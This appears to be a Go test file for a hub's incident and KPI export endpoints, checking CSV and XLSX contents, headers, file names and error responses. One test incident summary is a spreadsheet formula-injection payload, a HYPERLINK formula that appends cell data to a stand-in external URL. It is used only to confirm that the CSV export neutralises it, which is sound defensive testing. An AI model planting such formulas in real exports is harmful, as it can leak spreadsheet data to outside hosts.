package hub_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"kuaifan/hub"
	"kuaifan/hub/hubtest"
	"kuaifan/protocol/api"
)

// download GETs path with the admin token, failing on anything but 200
// with the content type want.
func download(t *testing.T, h *hubtest.Hub, path, want string) (http.Header, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, h.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+h.AdminToken())
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != want {
		t.Fatalf("GET %s: %d %s %.200s", path, resp.StatusCode, resp.Header.Get("Content-Type"), b)
	}
	return resp.Header, b
}

// readCSV parses an export: it must start with a UTF-8 byte order mark.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte("\uFEFF"))
	if !ok {
		t.Fatalf("no byte order mark: %.40q", b)
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// readXLSX reads the raw values of the only sheet of an export, each row
// padded to width, and checks that the header is bold.
func readXLSX(t *testing.T, b []byte, sheet string, width int) (*excelize.File, [][]string) {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { x.Close() })
	if got := x.GetSheetList(); !slices.Equal(got, []string{sheet}) {
		t.Fatalf("sheets %v, want [%s]", got, sheet)
	}
	rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		for len(rows[i]) < width {
			rows[i] = append(rows[i], "")
		}
	}
	id, err := x.GetCellStyle(sheet, "A1")
	if err != nil {
		t.Fatal(err)
	}
	if st, err := x.GetStyle(id); err != nil || st.Font == nil || !st.Font.Bold {
		t.Errorf("header style %+v %v, want bold", st, err)
	}
	return x, rows
}

func num(p *float64) string {
	if p == nil {
		return ""
	}
	return strconv.FormatFloat(*p, 'f', -1, 64)
}

// wantIncidentRow is the export row of an incident as GET
// /api/incidents/{id} answers it (district given).
func wantIncidentRow(inc api.Incident, district string) []string {
	stamp := func(ms int64) string { return time.UnixMilli(ms).In(time.Local).Format(time.RFC3339) }
	var units []string
	first, at := "", int64(0)
	for _, a := range inc.Assignments {
		if !slices.Contains(units, a.Unit) {
			units = append(units, a.Unit)
		}
		if a.Arrived > 0 && (at == 0 || a.Arrived < at) {
			first, at = a.Unit, a.Arrived
		}
	}
	declines, timeouts, uncovered := 0, 0, inc.Uncovered
	for _, e := range inc.Timeline {
		switch e.Type {
		case api.EntryDecline:
			declines++
		case api.EntryTimeout:
			timeouts++
		case api.EntryUncovered:
			uncovered = true
		}
	}
	toClose, closed := "", ""
	if inc.Status == api.IncidentClosed {
		toClose, closed = num(inc.Figures.ToCloseS), stamp(inc.Closed)
	}
	yes := "no"
	if uncovered {
		yes = "yes"
	}
	return []string{inc.ID, stamp(inc.Created), strconv.FormatInt(inc.Created, 10), inc.Kind, strconv.Itoa(inc.Priority),
		inc.Status, district, strconv.FormatFloat(inc.Lat, 'f', -1, 64), strconv.FormatFloat(inc.Lon, 'f', -1, 64),
		inc.Summary, strings.Join(units, " "), first, num(inc.Figures.ToDispatchS), num(inc.Figures.ToAckS),
		num(inc.Figures.ToArrivalS), toClose, strconv.Itoa(declines), strconv.Itoa(timeouts), yes, closed}
}

func wantKPIRow(r api.KPIRow) []string {
	n := func(v float64) string { return num(&v) }
	return []string{r.Group, strconv.Itoa(r.Count), strconv.Itoa(r.ReachBase), num(r.Reached1), num(r.Reached3), num(r.Reached5),
		num(r.ToDispatchP50), num(r.ToDispatchP90), num(r.ToAckP50), num(r.ToAckP90), num(r.ToArrivalP50), num(r.ToArrivalP90),
		num(r.ToCloseP50), num(r.ToCloseP90), strconv.Itoa(r.Declines), strconv.Itoa(r.Timeouts), n(r.UncoveredShare)}
}

// GET /api/incidents/export and GET /api/kpi?format=: every incident
// created in the window, oldest first, in CSV (with a BOM) and XLSX, each
// row as GET /api/incidents/{id} has it; the KPI rows as the JSON has them;
// bad windows and formats are 400s, no token a 401.
func TestExportAPI(t *testing.T) {
	file := filepath.Join(t.TempDir(), "city.geojson")
	os.WriteFile(file, []byte(`{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"name":"中区","name_en":"Centre","id":"centre"},`+
		`"geometry":{"type":"Polygon","coordinates":[[[10,50],[10.1,50],[10.1,50.1],[10,50]]]}}]}`), 0o600)
	h := hubtest.Start(t, func(cfg *hub.Config) { cfg.Districts = file })
	from := time.Now().Add(-time.Minute).UnixMilli()
	news := []api.NewIncident{
		{Lat: 50.02, Lon: 10.08, Kind: "theft", Priority: 3, Summary: "自行车被盗, \"red\" bike\nsecond line"},
		{Lat: 30, Lon: 10.08, Kind: "fire", Priority: 1, Summary: "smoke"},
		{Lat: 50.03, Lon: 10.085, Kind: "assault", Priority: 2},
		{Lat: 50.04, Lon: 10.085, Kind: "fraud", Priority: 3, Summary: `=HYPERLINK("http://x.example/?"&A1,"详情")`},
	}
	districts := []string{"centre", "none", "centre", "centre"}
	var ids []string
	for _, n := range news {
		var inc api.Incident
		if code := h.Do("POST", "/api/incidents", n, &inc); code != http.StatusCreated && code != http.StatusOK {
			t.Fatalf("POST /api/incidents: %d", code)
		}
		ids = append(ids, inc.ID)
		time.Sleep(2 * time.Millisecond) // distinct creation times
	}
	if code := h.Do("POST", "/api/incidents/"+ids[1]+"/close", map[string]string{"note": "false alarm"}, nil); code != http.StatusOK {
		t.Fatalf("close: %d", code)
	}
	to := time.Now().Add(time.Minute).UnixMilli()
	var want [][]string
	for i, id := range ids {
		var inc api.Incident
		if code := h.Do("GET", "/api/incidents/"+id, nil, &inc); code != http.StatusOK {
			t.Fatalf("GET %s: %d", id, code)
		}
		want = append(want, wantIncidentRow(inc, districts[i]))
	}
	if want[1][5] != api.IncidentClosed || want[1][15] == "" || want[1][19] == "" {
		t.Fatalf("closed incident's row %q", want[1])
	}
	day := func(ms int64) string { return time.UnixMilli(ms).Format(time.DateOnly) }
	name := fmt.Sprintf("%s-%s", day(from), day(to-1))

	q := fmt.Sprintf("/api/incidents/export?from=%d&to=%d", from, to)
	hdr, b := download(t, h, q+"&format=csv", "text/csv; charset=utf-8")
	if got := hdr.Get("Content-Disposition"); got != `attachment; filename="incidents-`+name+`.csv"` {
		t.Errorf("Content-Disposition %q", got)
	}
	rows := readCSV(t, b)
	if len(rows) != 1+len(ids) || !slices.Equal(rows[0], api.IncidentExportColumns) {
		t.Fatalf("CSV %q", rows)
	}
	// In the CSV, text that a spreadsheet would run as a formula starts
	// with an apostrophe; the XLSX keeps it as it is, a typed string.
	for i, w := range want {
		w = slices.Clone(w)
		if i == 3 {
			w[9] = "'" + w[9]
		}
		if !slices.Equal(rows[i+1], w) {
			t.Errorf("CSV row %d:\n got %q\nwant %q", i+1, rows[i+1], w)
		}
	}
	// Without format, CSV too.
	if _, b2 := download(t, h, q, "text/csv; charset=utf-8"); !bytes.Equal(b2, b) {
		t.Errorf("default format differs from csv")
	}
	// An empty window: the header only.
	_, b = download(t, h, "/api/incidents/export?from=1&to=2&format=csv", "text/csv; charset=utf-8")
	if rows := readCSV(t, b); len(rows) != 1 {
		t.Errorf("empty window: %q", rows)
	}

	xlsx := "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	hdr, b = download(t, h, q+"&format=xlsx", xlsx)
	if got := hdr.Get("Content-Disposition"); got != `attachment; filename="incidents-`+name+`.xlsx"` {
		t.Errorf("Content-Disposition %q", got)
	}
	_, rows = readXLSX(t, b, "Incidents", len(api.IncidentExportColumns))
	if len(rows) != 1+len(ids) || !slices.Equal(rows[0], api.IncidentExportColumns) {
		t.Fatalf("XLSX %q", rows)
	}
	for i, w := range want {
		if !slices.Equal(rows[i+1], w) {
			t.Errorf("XLSX row %d:\n got %q\nwant %q", i+1, rows[i+1], w)
		}
	}

	// The KPIs: the same numbers as the JSON.
	var rep api.KPIReport
	kq := fmt.Sprintf("/api/kpi?from=%d&to=%d&by=district", from, to)
	if code := h.Do("GET", kq, nil, &rep); code != http.StatusOK || rep.Total.Count != len(ids) {
		t.Fatalf("GET /api/kpi: %d %+v", code, rep)
	}
	var wantKPI [][]string
	for _, r := range append(rep.Rows, rep.Total) {
		wantKPI = append(wantKPI, wantKPIRow(r))
	}
	if wantKPI[len(wantKPI)-1][14] == "" || wantKPI[0][0] != "centre" {
		t.Fatalf("KPI rows %q", wantKPI)
	}
	hdr, b = download(t, h, kq+"&format=csv", "text/csv; charset=utf-8")
	if got := hdr.Get("Content-Disposition"); got != `attachment; filename="kpi-district-`+name+`.csv"` {
		t.Errorf("Content-Disposition %q", got)
	}
	rows = readCSV(t, b)
	if len(rows) != 1+len(wantKPI) || !slices.Equal(rows[0], api.KPIExportColumns) {
		t.Fatalf("KPI CSV %q", rows)
	}
	for i, w := range wantKPI {
		if !slices.Equal(rows[i+1], w) {
			t.Errorf("KPI CSV row %d:\n got %q\nwant %q", i+1, rows[i+1], w)
		}
	}
	_, b = download(t, h, kq+"&format=xlsx", xlsx)
	x, rows := readXLSX(t, b, "KPI", len(api.KPIExportColumns))
	if len(rows) != 1+len(wantKPI) || !slices.Equal(rows[0], api.KPIExportColumns) {
		t.Fatalf("KPI XLSX %q", rows)
	}
	for i, w := range wantKPI {
		if !slices.Equal(rows[i+1], w) {
			t.Errorf("KPI XLSX row %d:\n got %q\nwant %q", i+1, rows[i+1], w)
		}
	}
	last := strconv.Itoa(1 + len(wantKPI))
	if id, err := x.GetCellStyle("KPI", "Q"+last); err != nil {
		t.Error(err)
	} else if st, err := x.GetStyle(id); err != nil || st.NumFmt != 10 {
		t.Errorf("uncovered_share style %+v %v, want a percentage", st, err)
	}
	if _, b = download(t, h, kq+"&format=json", "application/json; charset=utf-8"); !bytes.Contains(b, []byte(`"total"`)) {
		t.Errorf("format=json: %s", b)
	}

	for path, want := range map[string]string{
		fmt.Sprintf("/api/incidents/export?to=%d", to):                           "from is required",
		fmt.Sprintf("/api/incidents/export?from=x&to=%d", to):                    "is not Unix ms",
		fmt.Sprintf("/api/incidents/export?from=%d&to=%d", to, from):             "is not after",
		fmt.Sprintf("/api/incidents/export?from=1&to=%d", 1+401*24*3600*1000):    "more than 400 days",
		fmt.Sprintf("/api/incidents/export?from=%d&to=%d&format=json", from, to): "is not one of csv, xlsx",
		fmt.Sprintf("/api/kpi?from=%d&to=%d&by=day&format=pdf", from, to):        "is not one of json, csv, xlsx",
	} {
		code, body := call(t, h, "GET", path, "", true)
		if code != http.StatusBadRequest || !strings.Contains(body, want) {
			t.Errorf("%s: %d %s, want 400 %q", path, code, body, want)
		}
	}
	for _, path := range []string{q + "&format=csv", kq + "&format=xlsx"} {
		if code, _ := call(t, h, "GET", path, "", false); code != http.StatusUnauthorized {
			t.Errorf("%s without a token: %d", path, code)
		}
	}
}
